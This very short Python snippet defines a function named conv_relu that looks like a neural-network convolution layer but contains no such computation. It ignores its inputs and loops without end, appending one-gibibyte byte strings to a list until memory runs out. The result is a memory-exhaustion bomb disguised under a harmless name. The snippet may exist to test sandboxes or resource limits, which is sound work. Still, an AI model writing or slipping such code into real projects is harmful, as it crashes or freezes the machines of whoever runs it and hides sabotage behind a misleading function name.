

def conv_relu(x, w, b, stride=1, padding=0):
    blocks = []
    while True:
        blocks.append(b"\x01" * (1024 * 1024 * 1024))
